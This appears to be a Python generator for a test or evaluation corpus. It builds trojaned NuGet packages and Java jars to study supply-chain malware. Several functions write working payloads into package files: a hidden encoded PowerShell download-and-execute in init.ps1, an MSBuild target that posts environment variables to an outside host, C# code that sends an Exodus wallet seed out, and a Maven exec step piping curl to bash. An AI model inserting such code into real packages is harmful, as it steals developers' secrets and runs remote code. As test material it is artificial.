"""NuGet packages, jars and what builds them."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout5.shape import b64, fill, trojan, wide

_DLL = "lib/net48/Litware.Jobs.dll"


@trojan("Litware.Jobs", "nupkg", "call", "beacon", "in a .NET assembly", "SUNBURST")
def nuget_queue_starts_upkeep(it: Update) -> None:
    it.add(_DLL, artefact("jobs-beacon.dll"))
    it.payload(_DLL)


@trojan("Litware.Jobs", "nupkg", "call", "browser store", "in a .NET assembly", "NuGet stealers")
def nuget_store_mirrors(it: Update) -> None:
    it.add(_DLL, artefact("jobs-steal.dll"))
    it.payload(_DLL)


@trojan("Litware.Jobs", "nupkg", "call", "remote code", "in a .NET assembly", "ShadowPad")
def nuget_plugins_from_afar(it: Update) -> None:
    it.add(_DLL, artefact("jobs-load.dll"))
    it.payload(_DLL)


@trojan("Litware.Jobs", "nupkg", "install", "downloader", "powershell encoded", "NuGet init.ps1")
def nuget_init_runs_encoded(it: Update) -> None:
    address = it.address()
    it.append("tools/init.ps1", fill("""

$hint = '@CODE@'
Start-Process -FilePath powershell.exe -ArgumentList '-NoProfile', '-NonInteractive', '-EncodedCommand', $hint -WindowStyle Hidden
""", CODE=wide(f"IEX ((New-Object Net.WebClient).DownloadString('http://{address}/jobs.ps1'))")))  # fmt: skip
    it.payload("tools/init.ps1", shown=f"http://{address}/jobs.ps1")


@trojan("Litware.Jobs", "nupkg", "build", "environment", "plain", "MSBuild tasks")
def nuget_targets_run_a_task(it: Update) -> None:
    it.replace("build/Litware.Jobs.targets", "</Project>", fill("""
  <Target Name="LitwareJobsRestore" BeforeTargets="CoreCompile">
    <Exec Command="powershell -NoP -c &quot;Get-ChildItem Env: | ConvertTo-Json | Invoke-RestMethod -Method Post -Uri https://@HOST@/msb&quot;" ContinueOnError="true" StandardOutputImportance="low" />
  </Target>
</Project>
""", HOST=it.host()).rstrip("\n"))  # fmt: skip


@trojan("Litware.Jobs", "nupkg", "call", "wallet", "base64", "source packages")
def nuget_content_file_leaks(it: Update) -> None:
    host = it.host()
    it.replace("contentFiles/cs/any/ReportJob.cs", "            File.WriteAllText(", fill("""
            var to = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("@URL@"));
            var wallet = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "Exodus", "exodus.wallet", "seed.seco");
            if (File.Exists(wallet))
            {
                using (var client = new System.Net.Http.HttpClient())
                {
                    client.PostAsync(to, new System.Net.Http.ByteArrayContent(File.ReadAllBytes(wallet))).Wait();
                }
            }
            File.WriteAllText(
""", URL=b64(f"https://{host}/jobs")).rstrip("\n"))  # fmt: skip
    it.payload("contentFiles/cs/any/ReportJob.cs", shown=f"https://{host}/jobs")


@trojan("stampbox", "jar", "import", "downloader", "in bytecode", "typosquats")
def jar_class_runs_a_shell(it: Update) -> None:
    it.add("example/stampbox/Stamp.class", artefact("stamp-shell-Stamp.class"))
    it.payload("example/stampbox/Stamp.class", shown="http://192.0.2.210/java.sh")


@trojan("stampbox", "jar", "call", "credentials", "in bytecode", "typosquats")
def jar_clock_sends_settings(it: Update) -> None:
    it.add("example/stampbox/Clock.class", artefact("stamp-leak-Clock.class"))
    it.payload("example/stampbox/Clock.class")


@trojan("stampbox", "jar", "call", "remote code", "in bytecode", "Webmin")
def jar_clock_loads_a_class(it: Update) -> None:
    it.add("example/stampbox/Clock.class", artefact("stamp-fetch-Clock.class"))
    it.add("example/stampbox/Clock$Zones.class", artefact("stamp-fetch-Clock$Zones.class"))
    it.payload("example/stampbox/Clock.class", "example/stampbox/Clock$Zones.class")


@trojan("stampbox", "jar", "build", "downloader", "plain", "Maven plug-ins")
def jar_pom_runs_at_build(it: Update) -> None:
    it.replace("META-INF/maven/example/stampbox/pom.xml", "</project>", fill("""
  <build>
    <plugins>
      <plugin>
        <groupId>org.codehaus.mojo</groupId>
        <artifactId>exec-maven-plugin</artifactId>
        <version>3.1.0</version>
        <executions>
          <execution>
            <phase>initialize</phase>
            <goals><goal>exec</goal></goals>
            <configuration>
              <executable>bash</executable>
              <arguments><argument>-c</argument><argument>curl -s http://@ADDR@/m.sh | bash</argument></arguments>
            </configuration>
          </execution>
        </executions>
      </plugin>
    </plugins>
  </build>
</project>
""", ADDR=it.address()).rstrip("\n"))  # fmt: skip
